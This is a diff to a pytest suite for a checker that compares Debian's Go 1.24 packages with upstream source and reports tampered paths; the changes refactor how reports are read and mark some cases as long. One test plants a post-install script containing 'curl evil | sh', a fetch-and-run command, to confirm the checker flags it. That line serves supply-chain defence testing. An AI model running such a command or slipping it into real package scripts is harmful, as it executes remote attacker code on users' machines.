@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import itertools
+import json
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -16,7 +18,7 @@ from support.tamper import Tamper, Tampering, finding_path, kind_of, seeded
 pytestmark = pytest.mark.network
 
 _PASSES = {"identical", "equivalent", "explained"}
-_BATCHES = 5
+_BATCHES = 4
 _SEEDED = 300
 _SEED = 1244
 
@@ -46,9 +48,9 @@ def check(samego: Samego, go1244_module_zip: Path, go124_source: Path) -> Check:
 
 
 @pytest.fixture(scope="module")
-def shipped(check: Check, trixie_go124_debs: list[Path]) -> Mapping[str, str]:
+def shipped(trixie_report: Path) -> Mapping[str, str]:
     """The standing of each path of the package as Debian ships it, if not identical."""
-    return _standings(check(*trixie_go124_debs))
+    return _standings(json.loads(trixie_report.read_text("utf-8")))
 
 
 @pytest.fixture(scope="module")
@@ -98,8 +100,8 @@ def _real_paths(below: str) -> tuple[str, str]:
     return (f"usr/lib/go-1.24/{below}", f"usr/share/go-1.24/{below}")
 
 
-def _standings(result: Result) -> dict[str, str]:
-    return {finding["path"]: finding["standing"] for finding in result.report["findings"]}
+def _standings(report: Mapping[str, Any]) -> dict[str, str]:
+    return {finding["path"]: finding["standing"] for finding in report["findings"]}
 
 
 def _missed(tampers: list[Tamper], found: Mapping[str, str]) -> list[str]:
@@ -119,7 +121,7 @@ def test_each_change_is_named_and_none_passes(
     result = check(*batch.repack(work.debs, tmp_path))
     assert result.status == 1, result.stderr
     assert not result.report["passes"]
-    assert _missed(batch.tampers, _standings(result)) == []
+    assert _missed(batch.tampers, _standings(result.report)) == []
 
 
 def test_the_changes_are_many_and_of_all_sorts(work: Tampering) -> None:
@@ -144,7 +146,7 @@ def test_what_is_not_changed_keeps_its_standing(
         src.repack(tmp_path, {path: changed}),
         work.debs[2].repack(tmp_path, {}),
     ]
-    assert _standings(check(*packages)) == {**shipped, "src/fmt/print.go": "unexplained"}
+    assert _standings(check(*packages).report) == {**shipped, "src/fmt/print.go": "unexplained"}
 
 
 _ROOT = "usr/lib/go-1.24"
@@ -179,13 +181,20 @@ def _lone_changes() -> Iterator[tuple[str, int, dict[str, Callable[[Deb], Member
         yield name, 0, {link: _linked(target)}, link.rpartition("/")[2]
 
 
+#: Each takes the way of the case before it.
+_KIN = ("no VERSION", "a link out of the package")
+
+
 def _linked(target: str) -> Callable[[Deb], Member]:
     return lambda _deb: new_link("", target)
 
 
 @pytest.mark.parametrize(
     ("package", "changes", "named"),
-    [pytest.param(*case[1:], id=case[0]) for case in _lone_changes()],
+    [
+        pytest.param(*case[1:], id=case[0], marks=pytest.mark.long if case[0] in _KIN else ())
+        for case in _lone_changes()
+    ],
 )
 def test_a_change_of_what_is_checked_does_not_pass(
     package: int,
@@ -201,7 +210,9 @@ def test_a_change_of_what_is_checked_does_not_pass(
     packages[package] = deb.repack(tmp_path, {path: make(deb) for path, make in changes.items()})
     result = check(*packages)
     if result.status == 1:
-        missed = [path for path, standing in _standings(result).items() if standing not in _PASSES]
+        missed = [
+            path for path, standing in _standings(result.report).items() if standing not in _PASSES
+        ]
         assert any(named in path for path in missed), missed
     else:
         assert result.status == 2, result.stderr
@@ -214,5 +225,5 @@ def test_a_script_that_runs_on_installation_is_named(
     go, *others = trixie_go124_debs
     changed = debs[0].repack(tmp_path, {}, {"postinst": b"#!/bin/sh\ncurl evil | sh\n"})
     assert changed.name == go.name
-    found = _standings(check(changed, *others))
+    found = _standings(check(changed, *others).report)
     assert found["/DEBIAN/golang-1.24-go.postinst"] == "unexplained"
